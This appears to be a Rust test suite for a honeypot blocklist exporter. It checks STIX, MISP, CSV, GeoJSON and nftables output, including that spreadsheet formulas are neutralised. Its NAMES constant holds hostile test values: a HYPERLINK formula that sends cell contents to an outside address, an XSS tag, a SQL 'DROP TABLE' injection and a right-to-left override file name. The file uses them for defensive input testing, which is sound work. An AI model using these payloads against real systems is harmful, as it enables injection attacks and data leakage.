//! `cowrie-export` writes files that the libraries and programs of their formats accept, with the rights of an analyst alone.
//!
//! The suite `export_faults` has the runs that fail.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};
use server_tests::Database;
use server_tests::cowrie_export::{attacked, errors, exported, has, libraries, program, scratch};
use server_tests::documentation::{code_spans, page};
use server_tests::hosts::COWRIE;
use server_tests::installation::workspace;

/// Names that attackers could choose, of a formula, of markup, of control characters, and of 10,000 characters.
const NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://198.51.100.1/\"&A1)",
    "</script><img src=x onerror=alert(1)>'; DROP TABLE sessions; --",
    "\r\n\t@\u{202e}gnp.exe\u{1}, \"quoted\" } timeout 1s, 0.0.0.0/0 {",
    "'already quoted",
];

/// Gives the networks the hostile names, and 8.8.8.8 a type.
fn name_networks(db: &mut Database<'_>) -> Vec<String> {
    db.run("INSERT INTO asn_inventory (asn_number) VALUES (64500), (64501), (64502) ON CONFLICT DO NOTHING");
    db.run(
        "UPDATE ip_inventory SET current_asn = 64500 WHERE ip_address = '60.0.0.1';
         UPDATE ip_inventory SET current_asn = 64501 WHERE ip_address = '60.0.0.2';
         UPDATE ip_inventory SET current_asn = 64502 WHERE ip_address = '139.59.0.1';
         UPDATE ip_inventory SET enrichment = enrichment || '{\"spur\": {\"tunnels\": [{\"type\": \"VPN\"}]}}'
         WHERE ip_address = '8.8.8.8'",
    );
    let long = format!("{}{}", NAMES[3], "n".repeat(10_000));
    let mut names = Vec::new();
    for (asn, name) in [(15169, NAMES[0]), (64500, NAMES[1]), (64501, NAMES[2]), (64502, long.as_str())] {
        db.run(&format!(
            "UPDATE asn_inventory SET organization_name = '{}' WHERE asn_number = {asn}",
            name.replace('\'', "''")
        ));
        names.push(name.to_owned());
    }
    names.sort();
    names
}

/// Writes a file, and returns what the library of the format reads in it.
#[track_caller]
fn read_back(db: &Database<'_>, role: &str, format: &str, arguments: &[&str]) -> Value {
    let file = scratch(db, format);
    let file = file.to_str().expect("a path in UTF-8");
    exported(db, role, &[&["--format", format, "--output", file], arguments].concat());
    let output = Command::new("python3")
        .arg(workspace().join("tools/tests/check_export.py"))
        .args([format, file])
        .env("PYTHONPATH", libraries())
        .env("PYTHONDONTWRITEBYTECODE", "1")
        .output()
        .expect("python3 runs");
    assert!(output.status.success(), "{format} {arguments:?}: {}", errors(&output));
    serde_json::from_slice(&output.stdout).expect("the facts are JSON")
}

#[test]
fn stix2_and_its_validator_accept_the_bundle_and_hostile_names_survive() {
    if !has("psycopg2") || !has("stix2") || !has("stix2validator") {
        return;
    }
    let (mut db, role) = attacked();
    let names = name_networks(&mut db);
    for (tlp, marking) in [
        ("clear", "TLP:WHITE"),
        ("green", "TLP:GREEN"),
        ("amber", "TLP:AMBER"),
        ("amber+strict", "TLP:AMBER+STRICT"),
        ("red", "TLP:RED"),
    ] {
        let found = read_back(&db, &role, "stix", &["--tlp", tlp]);
        assert_eq!(found["markings"], json!([marking]));
        assert_eq!(found["names"], json!(names));
        assert_eq!(found["types"]["indicator"], 5, "{found}");
        assert_eq!(found["counts"], json!([2, 1, 1, 1, 1]));
        assert_eq!(found["labels"], json!([["vpn"], [], [], [], []]));
        assert_eq!(
            found["patterns"],
            json!([
                "[ipv4-addr:value = '8.8.8.8']",
                "[ipv4-addr:value = '60.0.0.1']",
                "[ipv4-addr:value = '60.0.0.2']",
                "[ipv4-addr:value = '139.59.0.1']",
                "[ipv6-addr:value = '2001:4860::1']"
            ])
        );
    }
    let dense = ["--unit", "prefix", "--min-density", "1e-30"];
    let found = read_back(&db, &role, "stix", &dense);
    assert!(
        found["patterns"].to_string().contains("[ipv4-addr:value ISSUBSET '60.0.0.0/24']"),
        "{}",
        found["patterns"]
    );
    let found = read_back(&db, &role, "stix", &["--unit", "asn", "--min-density", "1e-30"]);
    // The network has sessions of both families, and is there once.
    assert_eq!(found["patterns"].to_string().matches("[autonomous-system:number = 15169]").count(), 1);
    // A list without targets is valid, too.
    let found = read_back(&db, &role, "stix", &["--since", "2030-01-01"]);
    assert_eq!(found["types"], json!({"identity": 1, "marking-definition": 1}));
}

#[test]
fn identifiers_depend_on_the_target_and_the_producer_alone() {
    if !has("psycopg2") || !has("stix2") || !has("stix2validator") {
        return;
    }
    let (db, role) = attacked();
    let indicators = |arguments: &[&str]| {
        let text = exported(&db, &role, &[&["--format", "stix"], arguments].concat());
        let bundle: Value = serde_json::from_str(&text).expect("a bundle is JSON");
        let of = bundle["objects"].as_array().expect("objects").iter();
        let mut found: Vec<_> = of
            .filter(|o| o["type"] == "indicator")
            .map(|o| (o["id"].to_string(), o["created"].to_string()))
            .collect();
        found.sort();
        found
    };
    let all = indicators(&[]);
    let later = indicators(&["--since", "2024-05-02", "--tlp", "red"]);
    assert_eq!(later.len(), 1);
    // The creation time must not change either, because both describe the same object.
    assert!(all.contains(&later[0]), "{later:?} is not in {all:?}");
    let foreign = indicators(&["--producer", "another"]);
    assert!(foreign.iter().all(|indicator| !all.contains(indicator)));
}

#[test]
fn pymisp_loads_the_event() {
    if !has("psycopg2") || !has("pymisp") {
        return;
    }
    let (mut db, role) = attacked();
    let names = name_networks(&mut db);
    let found = read_back(&db, &role, "misp", &["--tlp", "green", "--title", "<b>Sessions</b>"]);
    assert_eq!(found["info"], "<b>Sessions</b>");
    assert_eq!(found["date"], "2024-05-02");
    assert_eq!(found["tags"], json!(["tlp:green"]));
    assert_eq!(
        found["attributes"][0],
        json!(["ip-src", "8.8.8.8", true, "2024-05-01T00:00:00+00:00", "2024-05-02T06:00:00+00:00"])
    );
    // MISP replaces an attribute only by one with a later time.
    assert_eq!(
        found["times"].as_array().map(|times| times[..2].to_vec()),
        Some(vec![json!(1_714_629_600); 2])
    );
    assert_eq!(found["kinds"], json!([["ip-type:vpn"], [], [], [], []]));
    let comments = found["comments"].as_array().expect("comments");
    for name in &names {
        assert!(comments.iter().any(|c| c.as_str().is_some_and(|c| c.contains(name.as_str()))), "{name}");
    }
    let again = read_back(&db, &role, "misp", &["--since", "2024-05-02"]);
    assert_eq!(again["uuid"], found["uuid"]);
    assert!(found["uuids"].as_array().expect("uuids").contains(&again["uuids"][0]));
    let networks = read_back(&db, &role, "misp", &["--unit", "asn", "--min-density", "1e-30"]);
    assert!(networks["attributes"].to_string().contains(r#"["AS","15169",true,"#), "{networks}");
    assert_eq!(read_back(&db, &role, "misp", &["--since", "2030-01-01"])["attributes"], json!([]));
}

#[test]
fn points_of_geojson_begin_with_the_longitude() {
    if !has("psycopg2") {
        return;
    }
    let (mut db, role) = attacked();
    let names = name_networks(&mut db);
    let found = read_back(&db, &role, "geojson", &[]);
    assert_eq!(found["names"], json!(names));
    assert_eq!(found["points"]["8.8.8.8"], json!([-7.25, 12.5]));
    // The files of the test do not contain this address.
    assert_eq!(found["points"]["60.0.0.1"], Value::Null);
    assert!(found["points"].as_object().is_some_and(|points| points.contains_key("60.0.0.1")));
}

#[test]
fn no_cell_of_the_table_is_a_formula() {
    if !has("psycopg2") {
        return;
    }
    let (mut db, role) = attacked();
    let names = name_networks(&mut db);
    let found = read_back(&db, &role, "csv", &[]);
    assert_eq!(found["names"], json!(names));
    assert_eq!(found["sessions"], json!(["2", "1", "1", "1", "1"]));
    let cells = found["cells"].to_string();
    assert!(cells.contains("'=HYPERLINK") && cells.contains("''already"), "{cells}");
    assert_eq!(
        exported(&db, &role, &["--format", "plain"]),
        "8.8.8.8\n60.0.0.1\n60.0.0.2\n139.59.0.1\n2001:4860::1\n"
    );
    assert_eq!(exported(&db, &role, &["--format", "plain", "--min-sessions", "2"]), "8.8.8.8\n");
}

#[test]
fn two_exports_of_one_snapshot_are_equal_bytes() {
    if !has("psycopg2") || !has("stix2") || !has("pymisp") {
        return;
    }
    let (mut db, role) = attacked();
    name_networks(&mut db);
    for format in ["stix", "misp", "geojson", "csv", "plain", "nft"] {
        for more in [&[][..], &["--campaign", "s.id LIKE '2024-05-02%'"]] {
            let mut arguments = vec!["--format", format];
            arguments.extend(more);
            if format == "nft" {
                arguments.extend(["--now", "2024-05-03"]);
            }
            let first = exported(&db, &role, &arguments);
            let mut other = program(&db, &role, &arguments);
            // Neither the time zone nor the plan nor the randomness of Python's hashes changes a byte.
            other.env("PGTZ", "Asia/Tokyo").env("PYTHONHASHSEED", "7");
            other.env("PGOPTIONS", "-c search_path=public -c enable_hashjoin=off -c enable_hashagg=off");
            let second = other.output().expect("python3 runs");
            assert!(second.status.success(), "{}", errors(&second));
            assert_eq!(String::from_utf8_lossy(&second.stdout), first, "{format}");
            assert!(first.contains("8.8.8.8"), "{format}: {first}");
        }
    }
}

/// Returns a command that runs a script in a network namespace without rules, or `None` if that is impossible here.
///
/// The kernel limits the size of a transaction in a user namespace. So large sets need root.
fn nft(is_large: bool, script: &str) -> Option<Command> {
    let path = std::env::var("PATH").unwrap_or_default();
    let command = |options: &[&str], script: &str| {
        let mut command = Command::new("unshare");
        command.args(options).args(["sh", "-c", script]).env("PATH", format!("{path}:/usr/sbin:/sbin"));
        command
    };
    let ways = [&["--net"][..], &["--map-root-user", "--net"]];
    let works = |options: &&&[&str]| {
        let output = command(options, "nft list ruleset").output();
        output.is_ok_and(|output| output.status.success())
    };
    let found = ways[..if is_large { 1 } else { 2 }].iter().find(works);
    if found.is_none() {
        eprintln!("not run: nft is missing, or this user may not create a network namespace");
    }
    found.map(|options| command(options, script))
}

#[track_caller]
fn listed(files: &[&Path], script: &str) -> String {
    let mut command = nft(false, script).expect("the caller asked");
    let output = command.arg("nft").args(files).output().expect("unshare runs");
    assert!(output.status.success(), "{}", errors(&output));
    String::from_utf8(output.stdout).expect("nft prints text")
}

/// Writes sets at a time when the sessions of the first day have expired.
#[track_caller]
fn nft_file(db: &Database<'_>, role: &str, name: &str, arguments: &[&str]) -> PathBuf {
    let file = scratch(db, name);
    let common = ["--format", "nft", "--now", "2024-05-31 06:00", "--output", file.to_str().expect("UTF-8")];
    exported(db, role, &[&common, arguments].concat());
    file
}

#[test]
fn nft_accepts_the_sets_of_both_families() {
    if !has("psycopg2") || nft(false, "").is_none() {
        return;
    }
    let (mut db, role) = attacked();
    name_networks(&mut db);
    let addresses = nft_file(&db, &role, "addresses", &[]);
    let prefixes = nft_file(&db, &role, "prefixes", &["--unit", "prefix", "--min-density", "1e-30"]);
    let empty = nft_file(&db, &role, "empty", &["--since", "2030-01-01"]);
    let forever = nft_file(&db, &role, "forever", &["--lifetime", "1000 years"]);
    for file in [&addresses, &prefixes, &empty, &forever] {
        listed(&[file], "nft --check --file $1");
    }
    // The sets of the last file remain, and others of the table stay.
    let list = "nft add table inet honeypot; nft add chain inet honeypot own; nft --file $1 && nft --file $2 && nft list table inet honeypot";
    let of_addresses = listed(&[&prefixes, &addresses], list);
    assert!(of_addresses.contains("8.8.8.8 timeout 1d"), "{of_addresses}");
    assert!(of_addresses.contains("chain own"), "{of_addresses}");
    // The other sessions are older than 30 days at that time.
    assert!(!of_addresses.contains("60.0.0.1") && !of_addresses.contains("2001:4860"), "{of_addresses}");
    let young = nft_file(
        &db,
        &role,
        "young",
        &["--lifetime", "31 days", "--unit", "prefix", "--min-density", "1e-30"],
    );
    let of_prefixes = listed(&[&addresses, &young], list);
    for element in ["8.8.8.0/24 timeout 2d", "60.0.0.0/24 timeout 18h", "2001:4860::/48 timeout 18h"] {
        assert!(of_prefixes.contains(element), "{element}: {of_prefixes}");
    }
    // Two announced prefixes can overlap, which nft does not accept.
    db.run(&COWRIE.insert_at("2024-05-01", &[("wide", Some("60.0.9.1"))]));
    for (address, prefix) in [("60.0.9.1", "60.0.0.0/16"), ("60.0.0.1", "60.0.0.0/24")] {
        let document = json!({"cymru": {"prefix": prefix}});
        db.run(&format!("UPDATE ip_inventory SET enrichment = '{document}' WHERE ip_address = '{address}'"));
    }
    let targets = exported(&db, &role, &["--format", "plain", "--unit", "prefix", "--min-density", "1e-30"]);
    assert!(
        targets.contains("60.0.0.0/16\n60.0.0.0/24\n") || targets.contains("60.0.0.0/24\n60.0.0.0/16\n"),
        "{targets}"
    );
    let overlapping = nft_file(
        &db,
        &role,
        "overlapping",
        &["--lifetime", "31 days", "--unit", "prefix", "--min-density", "1e-30"],
    );
    let of_overlapping = listed(&[&addresses, &overlapping], list);
    assert!(of_overlapping.contains("60.0.0.0/16 timeout 18h"), "{of_overlapping}");
    assert!(!of_overlapping.contains("60.0.0.0/24"), "{of_overlapping}");
    let of_nothing = listed(&[&prefixes, &empty], list);
    assert!(of_nothing.contains("set honeypot6") && !of_nothing.contains("elements"), "{of_nothing}");
    // The documented configuration loads, also without a file, and the rules use the elements of the file.
    let documented = page("docs/export.md");
    let block = documented
        .split("```nft\n")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .expect("a block of nft");
    let configuration = scratch(&db, "nftables.conf");
    for (directory, elements) in [("nothing", 0), ("", 1)] {
        let include = scratch(&db, directory);
        let text =
            block.replace("/var/lib/cowrie-export/*.nft", &format!("{}/addresses*", include.display()));
        assert!(text.contains(include.to_str().expect("UTF-8")), "{text}");
        std::fs::write(&configuration, text).expect("the configuration can be written");
        let list = listed(&[&configuration], "nft --file $1 && nft list table inet honeypot");
        assert_eq!(list.matches("8.8.8.8 timeout").count(), elements, "{list}");
        assert!(list.contains("ip saddr @honeypot4 drop"), "{list}");
    }
    let named = nft_file(&db, &role, "named", &["--nft-table", "filter_2", "--nft-set", "bad"]);
    let text = std::fs::read_to_string(named).expect("the file is there");
    assert!(text.contains("add set inet filter_2 bad6 {"), "{text}");
}

#[test]
fn empty_sets_of_expired_targets_are_no_failure_but_a_message() {
    if !has("psycopg2") {
        return;
    }
    let (db, role) = attacked();
    let run = |more: &[&str]| {
        let output =
            program(&db, &role, &[&["--format", "nft"], more].concat()).output().expect("python3 runs");
        assert!(output.status.success(), "{}", errors(&output));
        (String::from_utf8_lossy(&output.stdout).contains("add element"), errors(&output))
    };
    let (has_elements, message) = run(&["--now", "2026-01-01"]);
    assert!(!has_elements);
    assert!(
        message.contains("because all 5 targets had expired at 2026-01-01T00:00:00Z")
            && message.contains("--now"),
        "{message}"
    );
    assert_eq!(message.lines().count(), 1);
    for more in [&["--now", "2024-05-03"][..], &["--now", "2026-01-01", "--lifetime", "9 years"]] {
        assert_eq!(run(more), (true, String::new()));
    }
    // No target is no expired target.
    assert_eq!(run(&["--since", "2030-01-01"]), (false, String::new()));
}

#[test]
fn a_density_that_would_block_whole_providers_is_refused() {
    if !has("psycopg2") {
        return;
    }
    let (db, role) = attacked();
    let arguments = ["--format", "plain", "--unit", "prefix", "--min-density", "0"];
    let output = program(&db, &role, &arguments).output().expect("python3 runs");
    assert_eq!((output.status.code(), output.stdout.len()), (Some(1), 0));
    assert!(errors(&output).contains("min_density must be greater than 0"), "{}", errors(&output));
    assert!(errors(&output).contains("With 0.01, a /24 prefix is listed"), "{}", errors(&output));
}

#[test]
fn nft_loads_fifty_thousand_elements() {
    if !has("psycopg2") || nft(true, "").is_none() {
        return;
    }
    let (mut db, role) = attacked();
    db.run(
        "INSERT INTO sessions (id, starttime, ip)
         SELECT 'big-' || n, '2024-05-02',
                CASE WHEN n % 2 = 0 THEN host('61.0.0.0'::inet + n * 3) ELSE host('2600::'::inet + n::bigint * 65536) END
         FROM generate_series(1, 50000) n",
    );
    let file = scratch(&db, "large");
    let path = file.to_str().expect("UTF-8");
    exported(
        &db,
        &role,
        &["--format", "nft", "--now", "2024-05-02", "--since", "2024-05-02", "--output", path],
    );
    let list = listed(&[&file], "nft --file $1 && nft --file $1 && nft list table inet honeypot");
    assert_eq!(list.matches(" timeout ").count(), 50_001, "and the address of the second day");
}

#[test]
fn a_campaign_has_no_address_that_must_not_be_blocked() {
    if !has("psycopg2") {
        return;
    }
    let (mut db, role) = attacked();
    let campaign =
        ["--format", "plain", "--campaign", "s.id IN (SELECT session FROM auth WHERE password = 'x')"];
    assert_eq!(exported(&db, &role, &campaign), "8.8.8.8\n60.0.0.1\n", "bogons are left out");
    assert_eq!(exported(&db, &role, &[&campaign[..], &["--since", "2024-05-02"]].concat()), "8.8.8.8\n");
    assert_eq!(exported(&db, &role, &[&campaign[..], &["--min-sessions", "2"]].concat()), "8.8.8.8\n");
    db.run(r#"UPDATE ip_inventory SET enrichment = '{"greynoise": {"riot": true}}' WHERE ip_address = '8.8.8.8'"#);
    assert_eq!(exported(&db, &role, &campaign), "60.0.0.1\n");
    db.run("INSERT INTO blocklist_exception (prefix) VALUES ('60.0.0.0/24')");
    assert_eq!(exported(&db, &role, &campaign), "");
}

#[test]
fn an_interval_counts_back_from_the_newest_session() {
    if !has("psycopg2") {
        return;
    }
    let (mut db, role) = attacked();
    let since =
        |interval: &str| exported(&db, &role, &["--format", "plain", "--since", interval]).lines().count();
    assert_eq!((since("29 hours"), since("2days"), since("1 year")), (1, 5, 5));
    // A sensor with a wrong clock does not empty the list.
    db.run("INSERT INTO sessions (id, starttime, ip) VALUES ('future', '2199-01-01', '61.0.0.1'), ('never', 'infinity', '61.0.0.2')");
    let arguments = ["--format", "plain", "--since", "29 hours"];
    assert!(exported(&db, &role, &arguments).contains("8.8.8.8\n"));
    db.run("DELETE FROM sessions");
    assert_eq!(exported(&db, &role, &arguments), "");
}

#[test]
fn simple_formats_need_the_driver_alone() {
    if !has("psycopg2") {
        return;
    }
    let (db, role) = attacked();
    let alone = scratch(&db, "driver");
    let _ = std::fs::remove_dir_all(&alone);
    std::fs::create_dir_all(&alone).expect("a directory of this test's own");
    for entry in std::fs::read_dir(libraries()).expect("the libraries").flatten() {
        if entry.file_name().to_string_lossy().starts_with("psycopg2") {
            std::os::unix::fs::symlink(entry.path(), alone.join(entry.file_name())).expect("a link");
        }
    }
    for format in ["csv", "plain", "nft", "geojson"] {
        let mut command = program(&db, &role, &["--format", format]);
        let output = command.env("PYTHONPATH", &alone).output().expect("python3 runs");
        assert!(output.status.success(), "{format}: {}", errors(&output));
    }
    for (format, library) in [("stix", "stix2==3.0.2"), ("misp", "pymisp==2.5.34.4")] {
        // -S leaves out libraries that are installed on this machine.
        let mut command = Command::new("python3");
        command.arg("-S").arg(workspace().join("tools/cowrie-export")).args(["--format", format]);
        let output = command.env("PYTHONPATH", &alone).output().expect("python3 runs");
        assert_eq!(output.status.code(), Some(1));
        assert!(errors(&output).contains(&format!("pip install {library}")), "{}", errors(&output));
        let pinned = page("tools/cowrie_export/requirements.txt");
        assert!(pinned.lines().any(|line| line == library), "{library} is not pinned");
    }
}

#[test]
fn the_page_and_the_help_name_the_same_options() {
    let help = Command::new("python3").arg(workspace().join("tools/cowrie-export")).arg("--help").output();
    let help = String::from_utf8(help.expect("python3 runs").stdout).expect("UTF-8");
    let text = page("docs/export.md");
    let options = |text: &str| {
        let words = text.split(|c: char| !c.is_ascii_lowercase() && c != '-').map(str::to_owned);
        words
            .filter(|word| word.starts_with("--") && word.len() > 3)
            .collect::<std::collections::BTreeSet<_>>()
    };
    let documented: String = code_spans(&text).join(" ");
    let missing: Vec<_> = options(&help).into_iter().filter(|o| !documented.contains(o.as_str())).collect();
    assert!(missing.is_empty(), "docs/export.md lacks {missing:?}");
    let table: Vec<_> = text.lines().filter(|line| line.starts_with("| `--")).collect();
    assert!(table.len() > 10);
    for option in options(&table.join("\n")) {
        assert!(help.contains(&option), "--help lacks {option}");
    }
}

#[test]
fn systemd_accepts_the_units() {
    let directory = workspace().join("target/tmp/export-units");
    std::fs::create_dir_all(&directory).expect("a directory of this test's own");
    let program = workspace().join("tools/cowrie-export");
    let mut paths = Vec::new();
    for name in ["cowrie-export.service", "cowrie-export.timer"] {
        let text = page(&format!("tools/systemd/{name}"))
            .replace("/usr/bin/cowrie-export", program.to_str().expect("UTF-8"))
            .replace("/usr/sbin/nft", "/bin/true");
        std::fs::write(directory.join(name), text).expect("the unit can be written");
        paths.push(directory.join(name));
    }
    let Ok(output) = Command::new("systemd-analyze").args(["verify", "--man=no"]).args(&paths).output()
    else {
        eprintln!("not run: systemd-analyze is not installed");
        return;
    };
    let said =
        [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
    assert!(output.status.success() && !said.contains("cowrie-export"), "{said}");
    let output = Command::new("systemd-analyze")
        .args(["security", "--offline=yes", "--threshold=20", "--no-pager"])
        .arg(&paths[0])
        .output()
        .expect("systemd-analyze runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
}
